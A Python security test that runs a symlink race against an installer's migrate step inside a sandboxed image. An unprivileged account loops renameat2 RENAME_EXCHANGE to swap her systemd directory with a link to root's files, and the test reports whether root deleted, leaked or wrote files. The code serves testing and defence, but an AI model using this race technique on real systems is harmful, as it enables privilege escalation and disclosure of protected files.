"""An account exchanges its directory with a link while root works in it: RENAME_EXCHANGE in a loop."""

import ctypes
import multiprocessing
import os

from faults import INSTALL
from image import MALLORY, UNIT, Image

DIRECTORY = "home/mallory/.config/systemd/user"
EXCHANGE = 2
AT_FDCWD = -100


def exchange(top: str, stop: object) -> None:
    """What mallory does: her directory and a link to root's take each other's place, again and again."""
    os.setgid(MALLORY)
    os.setuid(MALLORY)
    rename = ctypes.CDLL(None, use_errno=True).renameat2
    a, b = (os.path.join(top, DIRECTORY + end).encode() for end in ("", ".link"))
    while not stop.is_set():  # type: ignore[attr-defined]
        rename(AT_FDCWD, a, AT_FDCWD, b, EXCHANGE)


def attack(binary: str) -> list[str]:
    """One run of --migrate under attack: what mallory won."""
    with Image(binary) as image:
        unit = UNIT.format(user="", home="/var/lib/hermes").replace("User=\n", "")
        image.write(f"{DIRECTORY}/evil.service", unit, MALLORY)
        image.write(f"{DIRECTORY}/default.target.wants/x", "", MALLORY)
        (image.top / DIRECTORY / "default.target.wants/evil.service").symlink_to("../evil.service")
        victim = image.write("srv/root/evil.service", "a secret of root's")
        victim.chmod(0o600)
        (victim.parent).chmod(0o755)
        link = image.top / f"{DIRECTORY}.link"
        link.symlink_to("/srv/root")
        os.chown(link, MALLORY, MALLORY, follow_symlinks=False)
        # Outside of the image the same path leads to the victim, too, for a program that follows by name.
        link.unlink()
        link.symlink_to(image.top / "srv/root")
        image.top.chmod(0o755)
        stop = multiprocessing.Event()
        process = multiprocessing.Process(target=exchange, args=(str(image.top), stop))
        process.start()
        try:
            image.run(*INSTALL, "--run-as", "hermes", "--home", "/var/lib/hermes", "--migrate")
        finally:
            stop.set()
            process.join()
        won = []
        if not victim.exists():
            won.append("root's file was removed")
        backup = image.top / "var/lib/hermes-install/backup"
        for file in backup.rglob("evil.service") if backup.exists() else []:
            if "secret" in file.read_text() and file.stat().st_mode & 0o077:
                won.append("root's secret is in a backup that everybody reads")
        stray = [p for p in (image.top / "srv/root").iterdir() if p != victim]
        if stray:
            won.append(f"root wrote {stray}")
        return won


def run(binary: str, rounds: int) -> tuple[int, list[str]]:
    won: list[str] = []
    for _ in range(rounds):
        won += attack(binary)
    return rounds, won

